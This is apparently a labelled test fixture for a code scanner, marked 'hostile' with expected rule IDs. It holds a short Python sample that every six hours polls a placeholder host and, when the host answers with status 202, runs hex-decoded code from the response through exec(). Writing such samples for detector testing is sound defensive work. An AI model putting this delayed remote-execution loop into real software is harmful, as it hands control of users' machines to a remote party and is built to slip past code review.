# label: hostile
# expect: V301 V501 V504 V901
# note: Sleeps for hours and polls an address; it acts only when the far side answers, long after any review.
import time
import urllib.request


def heartbeat():
    while True:
        time.sleep(6 * 3600)
        try:
            r = urllib.request.urlopen("https://status.example.invalid/ok")
        except OSError:
            continue
        if r.status == 202:
            exec(bytes.fromhex(r.read().decode()))


heartbeat()
